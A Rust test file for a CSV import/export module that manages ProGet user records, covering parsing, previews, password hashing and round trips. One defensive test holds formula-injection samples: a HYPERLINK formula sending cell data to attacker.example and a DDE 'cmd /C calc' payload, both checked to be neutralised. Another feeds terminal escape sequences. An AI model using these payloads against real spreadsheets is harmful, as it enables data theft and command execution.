//! CSV in and out: reading what spreadsheets write, previewing, importing
//! with hashing, exporting, and round trips.
#![cfg(not(target_arch = "wasm32"))]

use proget_users_core::csv::{
    self, apply, apply_with_hashes, parse_csv, parse_csv_bytes, password_jobs, preview, to_csv,
    BadRows, Column, CsvApplyError, CsvError, RowProblem,
};
use proget_users_core::model::{User, UsersFile};
use proget_users_core::{parse, password, write};

fn sample() -> UsersFile {
    parse::parse_str(
        r#"{"users":[
            {"userName":"jDoe","displayName":"John Doe","emailAddress":"john@example.com","groups":["Developers"]},
            {"userName":"asmith","displayName":"Ann Smith","groups":["Developers","Ops"]}
        ],"groups":["Developers","Ops"]}"#,
    )
    .unwrap()
    .file
}

#[test]
fn reads_the_pgutil_header_in_any_case_and_finds_columns() {
    let users = parse_csv("name,DISPLAYNAME,Email,password\njdoe,John,j@example.com,pw\n").unwrap();
    assert_eq!(users.separator, ',');
    assert!(users.has_column(Column::Password));
    assert!(!users.has_column(Column::Groups));
    let row = &users.rows[0];
    assert_eq!(row.line, 2);
    assert_eq!(row.name, "jdoe");
    assert_eq!(row.display_name.as_deref(), Some("John"));
    assert_eq!(row.email, Some(Some("j@example.com".into())));
    assert_eq!(row.password.as_deref(), Some("pw"));
    assert_eq!(row.groups, None);
}

#[test]
fn quoted_fields_with_separators_quotes_and_line_breaks() {
    let text = "Name,DisplayName,Email,Password,Groups\r\n\
                \"doe\",\"Doe, John \"\"JD\"\"\",,\"p,w\"\"x\",\"A;B\"\r\n\
                smith,\"Two\r\nlines\",,,\r\n\
                third,Third,,,C\r\n";
    let users = parse_csv(text).unwrap();
    assert!(users.bad_rows.is_empty(), "{:?}", users.bad_rows);
    assert_eq!(users.rows.len(), 3);
    assert_eq!(
        users.rows[0].display_name.as_deref(),
        Some("Doe, John \"JD\"")
    );
    assert_eq!(users.rows[0].password.as_deref(), Some("p,w\"x"));
    assert_eq!(users.rows[0].groups, Some(vec!["A".into(), "B".into()]));
    assert_eq!(users.rows[1].display_name.as_deref(), Some("Two\nlines"));
    assert_eq!(users.rows[1].groups, Some(vec![]));
    // The record after a quoted line break starts on line 5, not 4.
    assert_eq!(
        users.rows.iter().map(|r| r.line).collect::<Vec<_>>(),
        [2, 3, 5]
    );
}

#[test]
fn semicolons_tabs_sep_lines_and_byte_order_marks() {
    let semi = parse_csv("\u{feff}Name;DisplayName;Email;Password\r\na;\"x;y\";a@example.com;\r\n")
        .unwrap();
    assert_eq!(semi.separator, ';');
    assert_eq!(semi.rows[0].name, "a");
    assert_eq!(semi.rows[0].display_name.as_deref(), Some("x;y"));
    assert_eq!(semi.rows[0].password, None);

    let tab = parse_csv("Name\tEmail\nb\tb@example.com\n").unwrap();
    assert_eq!(tab.separator, '\t');
    assert_eq!(tab.rows[0].email, Some(Some("b@example.com".into())));

    let excel = parse_csv("sep=;\nName;Email\nc;c@example.com\n;\n,\n").unwrap();
    assert_eq!(excel.separator, ';');
    assert_eq!(excel.rows[0].line, 3);
    assert_eq!(excel.bad_rows.len(), 1); // ";" is blank, "," one field of two
    assert_eq!(excel.bad_rows[0].line, 5);

    // UTF-16 little endian with its byte order mark, as Excel's "Unicode text".
    let mut bytes = vec![0xFF, 0xFE];
    for unit in "Name,Email\nd\u{e9},d@example.com\n".encode_utf16() {
        bytes.extend(unit.to_le_bytes());
    }
    let utf16 = parse_csv_bytes(&bytes).unwrap();
    assert_eq!(utf16.rows[0].name, "d\u{e9}");

    assert_eq!(
        parse_csv_bytes(b"Name\nok\nbad\xff\n"),
        Err(CsvError::NotUtf8 { line: 3 })
    );
}

#[test]
fn header_problems_are_errors_naming_the_columns() {
    let e = parse_csv("Name,Phone,Fax\na,1,2\n").unwrap_err();
    assert_eq!(
        e,
        CsvError::UnknownColumns(vec!["Phone".into(), "Fax".into()])
    );
    assert!(e.to_string().contains("\"Phone\", \"Fax\""), "{e}");
    let e = parse_csv("DisplayName,Email\nx,y@example.com\n").unwrap_err();
    assert_eq!(e, CsvError::MissingColumns(vec![Column::Name]));
    assert!(e.to_string().contains("lacks the column Name"), "{e}");
    assert_eq!(
        parse_csv("Name,Email,E-mail\n").unwrap_err(),
        CsvError::DuplicateColumn(Column::Email)
    );
    assert_eq!(parse_csv("").unwrap_err(), CsvError::Empty);
    assert_eq!(parse_csv("\n\r\n").unwrap_err(), CsvError::Empty);
    assert_eq!(
        parse_csv("Name,DisplayName\na,\"open\nb,c\n").unwrap_err(),
        CsvError::UnterminatedQuote { line: 2 }
    );
}

#[test]
fn bad_rows_carry_their_line_and_problem() {
    let text = "Name,DisplayName,Email,Password\n\
                ok,Ok,ok@example.com,\n\
                ,No Name,x@example.com,\n\
                short,Short\n\
                mail,Mail,not-an-address,\n\
                \n\
                OK,Again,,\n\
                \"multi\nline\",x,,\n\
                fine,Fine,,\n";
    let users = parse_csv(text).unwrap();
    let problems: Vec<(usize, RowProblem)> = users
        .bad_rows
        .iter()
        .map(|e| (e.line, e.problem.clone()))
        .collect();
    assert_eq!(
        problems,
        [
            (3, RowProblem::EmptyName),
            (
                4,
                RowProblem::FieldCount {
                    expected: 4,
                    found: 2
                }
            ),
            (5, RowProblem::ImplausibleEmail("not-an-address".into())),
            (
                7,
                RowProblem::DuplicateName {
                    name: "OK".into(),
                    first_line: 2
                }
            ),
            (8, RowProblem::ControlCharacterInName),
        ]
    );
    assert_eq!(
        users
            .rows
            .iter()
            .map(|r| (r.line, r.name.as_str()))
            .collect::<Vec<_>>(),
        [(2, "ok"), (10, "fine")]
    );
    assert_eq!(
        users.bad_rows[2].to_string(),
        "line 5: \"not-an-address\" does not look like an email address"
    );
}

#[test]
fn preview_shows_adds_updates_and_bad_rows_without_changing_anything() {
    let file = sample();
    let before = file.clone();
    let text = "Name,DisplayName,Email,Password,Groups\n\
                JDOE,John Doe,jd@example.com,,developers;QA\n\
                asmith,,,,Developers;Ops\n\
                bnew,Bea New,bea@example.com,s3cret,Ops\n\
                ,x,,,\n";
    let users = parse_csv(text).unwrap();
    let p = preview(&file, &users);
    assert_eq!(file, before);
    assert_eq!(p.changes.groups_added, ["QA"]);
    assert_eq!(p.changes.users_added, ["bnew"]);
    assert_eq!(p.changes.users_updated.len(), 1);
    let u = &p.changes.users_updated[0];
    assert_eq!(u.user_name, "jDoe");
    assert_eq!(u.display_name, None);
    assert_eq!(
        u.email,
        Some((
            Some("john@example.com".into()),
            Some("jd@example.com".into())
        ))
    );
    assert_eq!(u.groups_joined, ["QA"]);
    assert!(u.groups_left.is_empty());
    assert!(!u.password_changed);
    assert_eq!(p.unchanged, ["asmith"]);
    assert_eq!(p.bad_rows.len(), 1);
    assert_eq!(
        p.to_string(),
        "add-group \"QA\"\nadd-user \"bnew\"\n\
         update-user \"jDoe\" email \"john@example.com\" -> \"jd@example.com\"\n\
         update-user \"jDoe\" join-group \"QA\"\n\
         bad-row line 5: the name is empty\n"
    );
}

#[test]
fn apply_refuses_bad_rows_unless_told_to_skip_them() {
    let mut file = sample();
    let before = file.clone();
    let users = parse_csv("Name,Email\nnew1,n@example.com\n,x@example.com\n").unwrap();
    match apply(&mut file, &users, BadRows::Refuse) {
        Err(CsvApplyError::BadRows(rows)) => assert_eq!(rows[0].line, 3),
        other => panic!("expected a refusal, got {other:?}"),
    }
    assert_eq!(file, before);
    let done = apply(&mut file, &users, BadRows::Skip).unwrap();
    assert_eq!(done.users_added, ["new1"]);
    assert_eq!(done.rows_skipped.len(), 1);
    assert_eq!(
        done.to_string(),
        "imported CSV: added 1 user, skipped 1 bad row"
    );
    assert_eq!(file.users.len(), 3);
    assert_eq!(
        file.users[2].email_address.as_deref(),
        Some("n@example.com")
    );
    assert_eq!(file.users[2].display_name.as_deref(), Some("new1"));
}

#[test]
fn apply_updates_hashes_passwords_and_declares_groups() {
    let mut file = sample();
    file.users[1].set_password_hash("old".into(), "salt".into());
    let text = "Name,DisplayName,Email,Password,Groups\n\
                jdoe,Johnny,,pw-one,developers\n\
                ASMITH,,,,\n\
                cnew,C New,c@example.com,pw-three,Testers;Ops\n";
    let users = parse_csv(text).unwrap();
    let expected = preview(&file, &users);
    let done = apply(&mut file, &users, BadRows::Refuse).unwrap();
    assert_eq!(done.users_added, expected.changes.users_added);
    assert_eq!(
        done.users_updated,
        expected
            .changes
            .users_updated
            .iter()
            .map(|u| u.user_name.clone())
            .collect::<Vec<_>>()
    );
    assert_eq!(done.groups_added, ["Testers"]);
    assert_eq!(done.passwords_set, 2);
    assert_eq!(file.groups, ["Developers", "Ops", "Testers"]);

    let jdoe = &file.users[0];
    assert_eq!(jdoe.user_name, "jDoe"); // the file's spelling is kept
    assert_eq!(jdoe.display_name.as_deref(), Some("Johnny"));
    assert_eq!(jdoe.email_address, None); // an empty Email cell removes it
    assert_eq!(jdoe.groups, ["Developers"]); // the file's spelling of the group
    assert!(password::verify("pw-one", jdoe));
    assert_eq!(jdoe.password, None);

    let asmith = &file.users[1];
    assert!(asmith.groups.is_empty()); // an empty Groups cell clears them
    assert_eq!(asmith.display_name.as_deref(), Some("Ann Smith")); // empty: kept
    assert_eq!(asmith.password_bytes.as_deref(), Some("old")); // empty: kept

    let cnew = &file.users[2];
    assert_eq!(cnew.groups, ["Testers", "Ops"]);
    assert!(password::verify("pw-three", cnew));

    let json = write::to_json(&file);
    assert!(!json.contains("pw-one") && !json.contains("pw-three"));
}

#[test]
fn without_a_groups_column_groups_are_left_alone() {
    let mut file = sample();
    let users = parse_csv("Name,DisplayName\nasmith,Ann S.\n").unwrap();
    apply(&mut file, &users, BadRows::Refuse).unwrap();
    assert_eq!(file.users[1].groups, ["Developers", "Ops"]);
    assert_eq!(file.users[1].display_name.as_deref(), Some("Ann S."));
}

#[test]
fn unchanged_users_stay_byte_for_byte() {
    let text = r#"{"users":[{"userName":"a","displayName":"A","extra":true}],"groups":[]}"#;
    let mut file = parse::parse_str(text).unwrap().file;
    let json = write::to_json(&file);
    // The Groups cell is empty and the user has no groups key: no change.
    let users = parse_csv("Name,DisplayName,Email,Password,Groups\na,A,,,\n").unwrap();
    let p = preview(&file, &users);
    assert!(p.changes.is_empty(), "{p}");
    let done = apply(&mut file, &users, BadRows::Refuse).unwrap();
    assert_eq!(done.to_string(), "imported CSV: nothing changed");
    assert_eq!(write::to_json(&file), json);
}

#[test]
fn hashing_elsewhere_gives_the_same_result_and_every_hash_is_needed() {
    let text = "Name,Password\nx,one\ny,\nz,three\n";
    let users = parse_csv(text).unwrap();
    let jobs = password_jobs(&users);
    assert_eq!(jobs.iter().map(|j| j.row).collect::<Vec<_>>(), [0, 2]);
    assert!(!format!("{jobs:?}").contains("three"));
    assert!(!format!("{users:?}").contains("three"));

    let mut file = UsersFile::new();
    let only_one = vec![(jobs[0].row, password::hash(&jobs[0].password).unwrap())];
    assert_eq!(
        apply_with_hashes(&mut file, &users, BadRows::Refuse, only_one),
        Err(CsvApplyError::MissingHash { line: 4 })
    );
    assert!(file.users.is_empty());

    let hashes: Vec<_> = jobs
        .iter()
        .map(|j| (j.row, password::hash(&j.password).unwrap()))
        .collect();
    let done = apply_with_hashes(&mut file, &users, BadRows::Refuse, hashes).unwrap();
    assert_eq!(done.passwords_set, 2);
    assert!(password::verify("one", &file.users[0]));
    assert_eq!(file.users[1].password_bytes, None);
    assert!(password::verify("three", &file.users[2]));
}

#[test]
fn export_quotes_what_needs_it_leaves_passwords_out_and_picks_users() {
    let mut file = sample();
    file.users[0].set_plaintext_password("secret!".into());
    file.users[1].set_display_name(Some("Smith, \"Ann\"".into()));
    let out = to_csv(&file, None);
    assert_eq!(
        out,
        "Name,DisplayName,Email,Password,Groups\r\n\
         jDoe,John Doe,john@example.com,,Developers\r\n\
         asmith,\"Smith, \"\"Ann\"\"\",,,\"Developers;Ops\"\r\n"
    );
    assert!(!out.contains("secret"));
    let one = to_csv(&file, Some(&["asmith", "nobody"]));
    assert_eq!(one.lines().count(), 2);
    assert!(one.contains("asmith") && !one.contains("jDoe"));
}

#[test]
fn an_export_reads_back_and_reimports_as_no_change() {
    let file = sample();
    let users = parse_csv(&to_csv(&file, None)).unwrap();
    assert!(users.bad_rows.is_empty());
    assert_eq!(users.rows.len(), 2);
    assert_eq!(
        users.rows[1].groups,
        Some(vec!["Developers".into(), "Ops".into()])
    );
    let p = preview(&file, &users);
    assert!(p.changes.is_empty(), "{p}");
    assert_eq!(p.unchanged, ["jDoe", "asmith"]);
}

#[test]
fn importing_into_an_empty_file_rebuilds_the_users() {
    let file = sample();
    let mut copy = UsersFile::new();
    let users = parse_csv(&to_csv(&file, None)).unwrap();
    csv::apply(&mut copy, &users, BadRows::Refuse).unwrap();
    for (a, b) in file.users.iter().zip(&copy.users) {
        assert_eq!(a.user_name, b.user_name);
        assert_eq!(a.display_name, b.display_name);
        assert_eq!(a.email_address, b.email_address);
        assert_eq!(a.groups, b.groups);
    }
    assert_eq!(copy.groups, ["Developers", "Ops"]);
}

mod props {
    use super::*;
    use proptest::prelude::*;

    fn text() -> impl Strategy<Value = String> {
        // Printable text with the characters CSV must quote, trimmed as the
        // importer trims.
        "[a-zA-Z0-9 ,;\"'\u{e9}\u{4e2d}\n\t-]{0,12}".prop_map(|s| s.trim().to_owned())
    }

    fn user() -> impl Strategy<Value = (String, String, Option<String>, Vec<String>)> {
        (
            "[a-zA-Z0-9._\u{e9}, \"-]{1,10}".prop_map(|s| s.trim().to_owned()),
            text(),
            prop::option::of("[a-z]{1,6}@[a-z]{1,6}\\.(com|org)"),
            prop::collection::vec(
                "[A-Za-z0-9 ,\"]{1,8}".prop_map(|s| s.trim().to_owned()),
                0..4,
            ),
        )
            .prop_filter("names and groups are not blank", |(n, _, _, g)| {
                !n.is_empty() && g.iter().all(|g| !g.is_empty())
            })
    }

    proptest! {
        #[test]
        fn to_csv_round_trips_through_parse_csv(users in prop::collection::vec(user(), 0..8)) {
            let mut file = UsersFile::new();
            let mut seen = std::collections::HashSet::new();
            for (name, display, email, groups) in users {
                if !seen.insert(name.to_lowercase()) {
                    continue;
                }
                let mut u = User::new(name);
                u.set_display_name((!display.is_empty()).then_some(display));
                u.set_email_address(email);
                let mut g = groups;
                g.dedup();
                let mut unique = Vec::new();
                for x in g {
                    if !unique.contains(&x) {
                        unique.push(x);
                    }
                }
                u.set_groups(unique);
                file.users.push(u);
            }
            let parsed = parse_csv(&to_csv(&file, None)).unwrap();
            prop_assert!(parsed.bad_rows.is_empty(), "{:?}", parsed.bad_rows);
            prop_assert_eq!(parsed.rows.len(), file.users.len());
            for (row, user) in parsed.rows.iter().zip(&file.users) {
                prop_assert_eq!(&row.name, &user.user_name);
                prop_assert_eq!(&row.display_name, &user.display_name);
                prop_assert_eq!(&row.email, &Some(user.email_address.clone()));
                prop_assert_eq!(row.groups.as_ref(), Some(&user.groups));
                prop_assert_eq!(&row.password, &None);
            }
        }

        #[test]
        fn parse_csv_never_panics(text in "[a-zA-Z,;\"\r\n\t ]{0,80}") {
            let _ = parse_csv(&format!("Name,Email\n{text}"));
            let _ = parse_csv(&text);
        }
    }
}

/// The cells of one CSV line (no line breaks inside), unquoted: a parser
/// of its own, so the test does not trust the code it tests. Says for each
/// cell whether it was quoted.
fn cells(line: &str) -> Vec<(String, bool)> {
    let mut cells = Vec::new();
    let mut chars = line.chars().peekable();
    loop {
        let mut cell = String::new();
        let quoted = chars.peek() == Some(&'"');
        if quoted {
            chars.next();
            loop {
                match chars.next() {
                    Some('"') if chars.peek() == Some(&'"') => {
                        chars.next();
                        cell.push('"');
                    }
                    Some('"') => break,
                    Some(c) => cell.push(c),
                    None => panic!("unclosed quote in {line:?}"),
                }
            }
        }
        while let Some(&c) = chars.peek() {
            if c == ',' {
                break;
            }
            assert!(!quoted, "text after a closing quote in {line:?}");
            cell.push(c);
            chars.next();
        }
        cells.push((cell, quoted));
        if chars.next().is_none() {
            return cells;
        }
    }
}

#[test]
fn exported_cells_a_spreadsheet_would_run_are_defused_and_read_back() {
    let mut file = UsersFile::new();
    let risky = [
        "=HYPERLINK(\"http://attacker.example/?p=\"&D2,\"Click\")",
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\tTab",
        "'=already quoted",
        "fine",
    ];
    for (i, display) in risky.iter().enumerate() {
        let mut user = User::new(format!("u{i}"));
        user.set_display_name(Some((*display).to_owned()));
        user.set_email_address(Some(format!("u{i}@example.com")));
        user.set_groups(vec![format!("-group{i}"), "Ops".into()]);
        file.users.push(user);
    }
    file.users.push(User::new("=cmd|' /C calc'!A0"));
    let out = to_csv(&file, None);
    for line in out.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
        for (cell, quoted) in cells(line) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run in a spreadsheet"
            );
            if cell.starts_with('\'') || cell.contains([',', ';']) {
                assert!(quoted, "{cell:?} is not quoted");
            }
        }
    }
    assert!(out.contains("\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\""));
    assert!(out.contains("\"''=already quoted\""));
    assert!(out.contains(",fine,"));
    // Reading the export back takes the `'` off: the same users.
    let back = parse_csv(&out).unwrap();
    assert!(back.bad_rows.is_empty(), "{:?}", back.bad_rows);
    for (row, user) in back.rows.iter().zip(&file.users) {
        assert_eq!(row.name, user.user_name);
        let display = user.display_name.as_deref().map(str::trim);
        assert_eq!(row.display_name.as_deref(), display);
        assert_eq!(row.groups.as_ref(), Some(&user.groups));
    }
    assert_eq!(csv::defuse("=1"), "'=1");
    assert_eq!(csv::defuse("'@x"), "''@x");
    assert_eq!(csv::defuse("a=1"), "a=1");
    assert_eq!(csv::defuse("'plain"), "'plain");
}

#[test]
fn csv_messages_never_carry_control_characters() {
    let evil = "evil\u{1b}[2J\u{7}";
    let e = parse_csv(&format!("Name,{evil}\na,b\n")).unwrap_err();
    let users = parse_csv(&format!(
        "Name,Email\n\"x{evil}\",\n{evil},x@example.com\nb,\"{evil}@x\"\nb2,b@example.com\nB2,c@example.com\n"
    ))
    .unwrap();
    let mut shown = vec![e.to_string()];
    shown.extend(users.bad_rows.iter().map(|r| r.to_string()));
    let file = UsersFile::new();
    shown.extend(preview(&file, &users).lines());
    assert!(users.bad_rows.len() >= 3, "{:?}", users.bad_rows);
    for text in shown {
        assert!(
            !text.chars().any(proget_users_core::text::is_unsafe),
            "{text:?}"
        );
    }
}

#[test]
fn lone_carriage_returns_and_unclosed_quotes_are_found_on_their_lines() {
    let users = parse_csv("Name,DisplayName\ra,A\r\rb\rc,\"two\rlines\"\r,x\r").unwrap();
    assert_eq!(
        users.rows.iter().map(|r| r.line).collect::<Vec<_>>(),
        [2, 5]
    );
    assert_eq!(users.rows[1].display_name.as_deref(), Some("two\nlines"));
    assert_eq!(
        users.bad_rows.iter().map(|r| r.line).collect::<Vec<_>>(),
        [4, 7]
    );
    assert_eq!(
        parse_csv("Name,DisplayName\r\na,\"ok\r\nstill\"\r\nb,x\r\n\r\nc,\"never\r\nclosed\r\n")
            .unwrap_err(),
        CsvError::UnterminatedQuote { line: 6 }
    );
    assert_eq!(
        parse_csv("sep=;\nName;DisplayName\na;\"open").unwrap_err(),
        CsvError::UnterminatedQuote { line: 3 }
    );
}
